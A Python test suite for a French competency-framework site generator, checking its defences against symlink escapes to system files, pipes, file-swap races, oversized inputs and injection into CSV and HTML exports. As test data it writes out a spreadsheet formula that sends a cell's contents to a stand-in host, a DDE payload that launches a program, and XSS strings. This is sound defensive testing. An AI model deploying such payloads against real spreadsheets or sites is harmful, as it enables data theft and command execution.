"""Hostile and clumsy input (issue 16): only regular files of the framework are read, sizes are
bounded, nothing blocks; exports hold no formula. Each test is an attack that once succeeded
(or one of the same kind), run through the command line as a user would."""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import socket
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml

from generator import load
from generator.cli import main
from generator.text import abbr_line, attr, csv_cell, terminal, tooltip

from .conftest import CASES, ROOT, assemble_case


class _Blocked(BaseException):
    """Raised by the alarm: not an Exception, so the command line cannot report it as its own."""


@contextmanager
def _at_most(seconds: int) -> Iterator[None]:
    """A read that blocks (a pipe, an endless device) fails the test instead of hanging it."""
    def stop(signum, frame):
        raise _Blocked(f"bloqué plus de {seconds} s")

    previous = signal.signal(signal.SIGALRM, stop)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def _validate(framework: Path, monkeypatch, capsys) -> tuple[int, str]:
    """``python -m generator validate --framework framework``, in-process (the mutation tests
    see the calls), from the folder holding the framework: its exit code and its output."""
    monkeypatch.chdir(framework.parent)
    with _at_most(20):
        code = main(["validate", "--framework", framework.name])
    return code, capsys.readouterr().err


def _checked_as(monkeypatch, path: Path, seen: os.stat_result) -> None:
    """The check made before opening ``path`` sees ``seen``: as if the file were swapped
    between the check and the opening (a race the opening itself must defend against)."""
    real = os.lstat
    target = os.path.abspath(path)

    def lstat(name, *args, **kwargs):
        return seen if os.path.abspath(name) == target else real(name, *args, **kwargs)

    monkeypatch.setattr(os, "lstat", lstat)


ONE_ERROR = "1 erreur, 0 avertissement dans 1 fichier\n"


@pytest.fixture
def framework(tmp_path: Path) -> Path:
    return assemble_case(CASES / "base", tmp_path)


# -- files outside the framework are never read -----------------------------------------------

def test_a_link_to_a_system_file_is_refused_without_showing_it(framework: Path, monkeypatch,
                                                                capsys) -> None:
    (framework / "competences" / "cp16.yml").symlink_to("/etc/passwd")
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/competences/cp16.yml: error[file.special]: lien symbolique vers "
        "« /etc/passwd », hors du dossier du référentiel : remplacez-le par le fichier "
        "lui-même\n" + ONE_ERROR))


def test_a_link_to_a_valid_file_elsewhere_is_refused(framework: Path, tmp_path: Path,
                                                     monkeypatch, capsys) -> None:
    outside = tmp_path / "ailleurs.yml"
    data = yaml.safe_load((framework / "competences" / "cp02.yml").read_text(encoding="utf-8"))
    data["id"] = "cp03"
    outside.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    (framework / "competences" / "cp03.yml").symlink_to(outside)
    code, err = _validate(framework, monkeypatch, capsys)
    assert code == 1
    assert err.startswith(
        f"framework/competences/cp03.yml: error[file.special]: lien symbolique vers « {outside} »"
        ", hors du dossier du référentiel : remplacez-le par le fichier lui-même\n")


def test_a_link_inside_the_framework_is_read(framework: Path, monkeypatch, capsys) -> None:
    """A link to a file of the framework itself reads that file (here: a duplicate)."""
    (framework / "competences" / "cp03.yml").symlink_to(framework / "competences" / "cp02.yml")
    cp03 = "framework/competences/cp03.yml"
    assert _validate(framework, monkeypatch, capsys) == (1, (
        f"{cp03}:1:5: error[id.duplicate]: $.id: identifiant « cp02 » déjà utilisé "
        "(framework/competences/cp02.yml:1)\n"
        f"{cp03}:1:5: error[id.filename]: $.id: l'identifiant « cp02 » n'est pas le nom du "
        "fichier « cp03 » : renommez le fichier en « cp02.yml » ou changez l'identifiant\n"
        f"{cp03}:3:9: error[numero.duplicate]: $.numero: numéro de compétence « 2 » déjà utilisé "
        "(framework/competences/cp02.yml:3)\n"
        f"{cp03}:10:9: error[id.duplicate]: $.criteres[0].id: identifiant de critère « cp02-c1 » "
        "déjà utilisé (framework/competences/cp02.yml:10)\n"
        "4 erreurs, 0 avertissement dans 1 fichier\n"))


def test_a_link_to_a_folder_is_not_followed(framework: Path, tmp_path: Path, monkeypatch,
                                            capsys) -> None:
    (tmp_path / "dehors").mkdir()
    (framework / "seances").symlink_to(tmp_path / "dehors")
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/seances: error[file.special]: lien symbolique vers un dossier : non suivi\n"
        + ONE_ERROR))


def test_a_link_to_an_endless_device_is_refused_at_once(framework: Path, monkeypatch,
                                                         capsys) -> None:
    (framework / "competences" / "cp16.yml").symlink_to("/dev/zero")
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/competences/cp16.yml: error[file.special]: lien symbolique vers "
        "« /dev/zero », hors du dossier du référentiel : remplacez-le par le fichier "
        "lui-même\n" + ONE_ERROR))


def test_named_pipes_never_block(framework: Path, monkeypatch, capsys) -> None:
    os.mkfifo(framework / "competences" / "cp16.yml")  # once hung forever
    os.mkfifo(framework / "parcours" / "pause.yml")
    reason = "n'est pas un fichier ordinaire (tube, périphérique ou socket) : non lu"
    assert _validate(framework, monkeypatch, capsys) == (1, (
        f"framework/competences/cp16.yml: error[file.special]: {reason}\n"
        f"framework/parcours/pause.yml: error[file.special]: {reason}\n"
        "2 erreurs, 0 avertissement dans 2 fichiers\n"))


def test_broken_links_are_reported_in_french(framework: Path, monkeypatch, capsys) -> None:
    (framework / "competences" / "cp16.yml").symlink_to("cp99.yml")
    (framework / "parcours" / "pause.yml").symlink_to("pause.yml")
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/competences/cp16.yml: error[file.unreadable]: lecture impossible : fichier "
        "ou dossier introuvable\n"
        "framework/parcours/pause.yml: error[file.unreadable]: lecture impossible : lien "
        "symbolique non suivi (liens en boucle ?)\n"
        "2 erreurs, 0 avertissement dans 2 fichiers\n"))


def test_a_file_swapped_for_a_pipe_after_the_check_never_blocks(framework: Path, monkeypatch,
                                                                 capsys) -> None:
    pipe = framework / "competences" / "cp16.yml"
    os.mkfifo(pipe)
    _checked_as(monkeypatch, pipe, os.stat(framework / "titre.yml"))
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/competences/cp16.yml: error[file.special]: n'est pas un fichier ordinaire : "
        "non lu\n" + ONE_ERROR))


def test_a_file_swapped_for_a_link_after_the_check_is_not_followed(
        framework: Path, tmp_path: Path, monkeypatch, capsys) -> None:
    outside = tmp_path / "secret.yml"
    outside.write_text("id: cp16\nmot_de_passe: secret\n", encoding="utf-8")
    link = framework / "competences" / "cp16.yml"
    link.symlink_to(outside)
    _checked_as(monkeypatch, link, os.stat(outside))
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/competences/cp16.yml: error[file.unreadable]: lecture impossible : lien "
        "symbolique non suivi (liens en boucle ?)\n" + ONE_ERROR))


# -- sizes are bounded before parsing ---------------------------------------------------------

def _grow(path: Path, size: int) -> None:
    with path.open("ab") as handle:
        handle.truncate(size)  # sparse: nothing to write


@pytest.mark.parametrize("size, shown", [
    (256 * 1024 + 1, "256 Ko"), (1024 * 1024 - 1, "1023 Ko"), (1024 * 1024, "1 Mo"),
    (2 * 1024 * 1024 + 513 * 1024, "3 Mo"), (50 * 1024 * 1024, "50 Mo")])
def test_a_huge_glossary_is_refused_before_reading(framework: Path, monkeypatch, capsys,
                                                   size: int, shown: str) -> None:
    _grow(framework / "glossaire.yml", size)  # 50 Mo once took 28 s and 687 Mo
    assert _validate(framework, monkeypatch, capsys) == (1, (
        f"framework/glossaire.yml: error[file.taille]: fichier trop volumineux ({shown}) : "
        "256 Ko au plus par fichier ; découpez-le ou retirez ce qui n'est pas du référentiel\n"
        + ONE_ERROR))


def test_a_file_of_exactly_256_ko_is_read(framework: Path, monkeypatch, capsys) -> None:
    path = framework / "glossaire.yml"
    padding = 256 * 1024 - path.stat().st_size
    with path.open("a", encoding="utf-8") as handle:
        handle.write("#" * (padding - 1) + "\n")
    assert path.stat().st_size == load.MAX_FILE_BYTES
    assert _validate(framework, monkeypatch, capsys) == (0, "")


def test_a_file_that_grows_after_the_check_is_cut_short(framework: Path, monkeypatch,
                                                        capsys) -> None:
    path = framework / "glossaire.yml"
    _checked_as(monkeypatch, path, os.stat(path))
    _grow(path, 300 * 1024)
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/glossaire.yml: error[file.taille]: fichier trop volumineux (300 Ko) : "
        "256 Ko au plus par fichier ; découpez-le ou retirez ce qui n'est pas du référentiel\n"
        + ONE_ERROR))


def test_a_list_of_millions_of_items_is_refused_before_parsing(framework: Path, monkeypatch,
                                                               capsys) -> None:
    path = framework / "parcours" / "sortie.yml"
    with path.open("a", encoding="utf-8") as handle:
        handle.write("note: [" + "1," * 2_000_000 + "1]\n")  # once over 6 Go of memory
    code, err = _validate(framework, monkeypatch, capsys)
    assert code == 1
    assert err.startswith("framework/parcours/sortie.yml: error[file.taille]: fichier trop "
                          "volumineux (4 Mo)")


def test_the_whole_framework_has_a_size_limit(framework: Path, monkeypatch, capsys) -> None:
    """Every file is read while the total stays within the limit; the first one past it
    (here parcours/sortie.yml, the last one read) is not."""
    total = sum(p.stat().st_size for p in framework.rglob("*.yml"))
    monkeypatch.setattr(load, "MAX_TOTAL_BYTES", total)
    assert _validate(framework, monkeypatch, capsys) == (0, "")
    monkeypatch.setattr(load, "MAX_TOTAL_BYTES", total - 1)
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/parcours/sortie.yml: error[file.taille]: fichier non lu : le référentiel "
        f"dépasse {total // 1024} Ko au total (limite de taille)\n" + ONE_ERROR))


# -- escaping, one function per context -------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+1", "+33 6", "-2", "@SOMME(A1)", "\tx", "\r=1"])
def test_csv_cells_never_start_a_formula(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert csv_cell("Repérer " + value) == "Repérer " + value


def test_moodle_export_holds_no_formula(framework: Path, tmp_path: Path) -> None:
    path = framework / "competences" / "cp01.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data["criteres"][0]["libelle"] = '=HYPERLINK("http://x.invalid/?"&A1;"clic")'
    data["criteres"][1]["libelle"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    echelle = framework / "echelle.yml"
    data = yaml.safe_load(echelle.read_text(encoding="utf-8"))
    data["niveaux"][0]["libelle"] = "-1+2"
    echelle.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "moodle.csv"
    assert main(["export", "--format", "moodle", "--framework", str(framework),
                 "--output", str(out)]) == 0
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8")))
             for cell in row]
    assert "'=HYPERLINK(\"http://x.invalid/?\"&A1;\"clic\")" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert any(cell.startswith("'-1+2,") for cell in cells)  # the scale values
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_attribute_and_tooltip_contexts() -> None:
    assert attr('a"b<c>|[x](javascript:y)') == (
        "a&#34;b&#60;c&#62;&#124;&#91;x&#93;&#40;javascript&#58;y&#41;")
    # Material shows the decoded title as HTML: it must decode to escaped markup.
    assert tooltip("<img src=x>") == "&#38;lt&#59;img src&#61;x&#38;gt&#59;"
    assert abbr_line("PASS IAE", "Déf\n<b>") == "*[PASS IAE]: Déf &#38;lt&#59;b&#38;gt&#59;"
    with pytest.raises(ValueError):
        abbr_line("A]: x", "y")


def test_each_abbreviation_is_a_paragraph_that_markdown_reads() -> None:
    """The glossary's abbreviations, appended to every page: one paragraph each (read once,
    not once per definition left in a shared block), and every sigle marked in the text."""
    import markdown

    from generator.pipeline import validate_framework
    from generator.render import abbreviations

    from .site_helpers import REAL_FRAMEWORK

    framework = validate_framework(REAL_FRAMEWORK).framework
    assert framework is not None
    definitions = abbreviations(framework)
    blocks = definitions.strip().split("\n\n")
    assert len(blocks) > 20 and all("\n" not in block for block in blocks)
    sigles = [block[2:block.index("]: ")] for block in blocks]
    html = markdown.markdown(" ; ".join(sigles) + "\n\n" + definitions, extensions=["abbr"])
    assert all(f">{sigle}</abbr>" in html for sigle in sigles)
    assert "*[" not in html


def test_terminal_context_shows_control_characters() -> None:
    assert terminal("a\x1b[31mb\nc\u202ed") == "a\\x1b[31mb\\nc\\u202ed"


def test_no_schema_pattern_accepts_a_final_line_break() -> None:
    """In Python (both engines), « $ » matches before a final line break: « cp01\\n » once
    passed the id pattern. Patterns end with (?![\\s\\S]) instead."""
    import json

    from generator.load import SCHEMA_DIR

    def patterns(node):
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "pattern":
                    yield value
                else:
                    yield from patterns(value)
        elif isinstance(node, list):
            for item in node:
                yield from patterns(item)

    for path in sorted(SCHEMA_DIR.glob("*.schema.json")):
        for pattern in patterns(json.loads(path.read_text(encoding="utf-8"))):
            assert not pattern.endswith("$"), (path.name, pattern)


# -- content/ is read with the same guards (MkDocs publishes it) ------------------------------

@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A project (the base framework, content/ with a page and an image) whose previous site
    is in place."""
    from generator.outputs import MARKER_TEXT, SITE_MARKER

    root = tmp_path / "projet"
    assemble_case(CASES / "base", root)
    (root / "mkdocs.yml").write_text("site_name: Essai\ndocs_dir: content\n", encoding="utf-8")
    for code in ("javascripts", "stylesheets"):  # the site's browser code, read by every build
        shutil.copytree(ROOT / "content" / code, root / "content" / code)
    (root / "content" / "images").mkdir(parents=True)
    (root / "content" / "index.md").write_text("# Accueil\n", encoding="utf-8")
    (root / "content" / "images" / "logo.png").write_bytes(b"\x89PNG\r\n")
    (root / "site").mkdir()
    (root / "site" / SITE_MARKER).write_text(MARKER_TEXT, encoding="utf-8")
    (root / "site" / "index.html").write_text("<p>site précédent</p>", encoding="utf-8")
    return root


def _build(project: Path, monkeypatch, capsys) -> tuple[int, str]:
    monkeypatch.chdir(project)
    with _at_most(120):  # MkDocs, started beside, is cancelled
        code = main(["build", "--framework", "framework"])
    return code, capsys.readouterr().err


def _site(project: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in (project / "site").iterdir()}


def test_content_pages_get_the_framework_guards(project: Path, tmp_path: Path, monkeypatch,
                                                capsys) -> None:
    content = project / "content"
    before = _site(project)
    os.mkfifo(content / "tube.md")  # once hung build (and froze serve)
    os.mkfifo(content / "images" / "photo.jpg")  # MkDocs would copy it: hung too
    (tmp_path / "ailleurs.md").write_text("# Notes personnelles\n", encoding="utf-8")
    (content / "notes.md").symlink_to(tmp_path / "ailleurs.md")  # once published
    (content / "zero.md").symlink_to("/dev/zero")  # once a MemoryError
    (content / "dehors").symlink_to(tmp_path)
    _grow(content / "enorme.md", 32 * 1024 * 1024)  # once built for more than 10 minutes
    (content / "latin1.md").write_bytes("# Été\n".encode("latin-1"))
    code, err = _build(project, monkeypatch, capsys)
    special = "n'est pas un fichier ordinaire (tube, périphérique ou socket) : non lu"
    assert (code, err) == (1, (
        "content/dehors: error[file.special]: lien symbolique vers un dossier : non suivi ; "
        "remplacez-le par le dossier lui-même\n"
        "content/enorme.md: error[file.taille]: page trop volumineuse (32 Mo) : 2 Mo au plus "
        "par page ; découpez-la\n"
        f"content/images/photo.jpg: error[file.special]: {special}\n"
        "content/latin1.md:1:3: error[yaml.encoding]: octet 0xC9 invalide : le fichier doit "
        "être enregistré en UTF-8\n"
        f"content/notes.md: error[file.special]: lien symbolique vers « {tmp_path}/ailleurs.md "
        "», hors du projet : remplacez-le par le fichier lui-même\n"
        f"content/tube.md: error[file.special]: {special}\n"
        "content/zero.md: error[file.special]: lien symbolique vers « /dev/zero », hors du "
        "projet : remplacez-le par le fichier lui-même\n"
        "7 erreurs, 0 avertissement dans 7 fichiers\n"
        "Construction interrompue : des fichiers de content/ sont refusés. Le site précédent "
        "est conservé.\n"))
    assert _site(project) == before
    assert not (content / "referentiel").exists()


def test_a_content_link_inside_the_project_is_read(project: Path) -> None:
    (project / "notes.md").write_text("# Notes du projet\n", encoding="utf-8")
    (project / "content" / "notes.md").symlink_to(project / "notes.md")
    read = load.read_content(project / "content", "referentiel", project)
    assert read.diagnostics == []
    assert [(str(p.path), p.title) for p in read.pages] == [
        ("index.md", "Accueil"), ("notes.md", "Notes du projet")]


def test_serve_never_starts_mkdocs_on_a_refused_content(project: Path, monkeypatch,
                                                         capsys) -> None:
    """Even with the pages of a previous build to serve: MkDocs would read the pipe."""
    (project / "content" / "referentiel").mkdir()
    os.mkfifo(project / "content" / "tube.md")
    monkeypatch.chdir(project)
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    with _at_most(60):
        code = main(["serve", "--framework", "framework", "--dev-addr", f"127.0.0.1:{port}"])
    assert code == 1
    assert capsys.readouterr().err == (
        "content/tube.md: error[file.special]: n'est pas un fichier ordinaire (tube, "
        "périphérique ou socket) : non lu\n" + ONE_ERROR +
        "Modification refusée : le site affiché reste la dernière version valide.\n"
        "Aucun site servi : corrigez les fichiers de content/ refusés ci-dessus.\n")


# -- the number of YAML values is bounded too (bytes alone allow 128 000 per file) -------------

def test_flat_lists_of_256_ko_are_refused_before_composing(framework: Path, monkeypatch,
                                                          capsys) -> None:
    """80 files of 256 Ko flat lists (10 million values) once took 4 minutes and 2.5 Go; each
    is now refused where it passes 20 000 values, before composing (speed: ``make bench``)."""
    body = "[" + "1," * (128 * 1024 - 2) + "1]\n"
    for i in range(10):
        (framework / "competences" / f"cp{20 + i}.yml").write_text(body, encoding="utf-8")
    monkeypatch.chdir(framework.parent)
    with _at_most(120):  # once about 10 s a file
        code = main(["validate", "--framework", framework.name])
    lines = capsys.readouterr().err.splitlines()
    assert code == 1
    assert lines == [
        f"framework/competences/cp{20 + i}.yml:1:40000: error[yaml.valeurs]: trop de valeurs : "
        "plus de 20 000 valeurs YAML (éléments de liste, clés et valeurs) dans ce fichier ; "
        "découpez-le ou retirez ce qui n'est pas du référentiel" for i in range(10)] + [
        "10 erreurs, 0 avertissement dans 10 fichiers"]


def test_the_whole_framework_has_a_limit_of_values(framework: Path, monkeypatch,
                                                   capsys) -> None:
    """Every file is read while the values stay within the limit; the one past it is not,
    located at its first value over the limit (here: the last one)."""
    total = sum(doc.valeurs for doc in load.load_framework(framework).docs)
    monkeypatch.setattr(load, "MAX_TOTAL_VALUES", total)
    assert _validate(framework, monkeypatch, capsys) == (0, "")
    monkeypatch.setattr(load, "MAX_TOTAL_VALUES", total - 1)
    assert _validate(framework, monkeypatch, capsys) == (1, (
        "framework/parcours/sortie.yml:7:11: error[yaml.valeurs]: fichier non lu : le "
        f"référentiel dépasse {total - 1} valeurs YAML au total (limite de taille)\n"
        + ONE_ERROR))
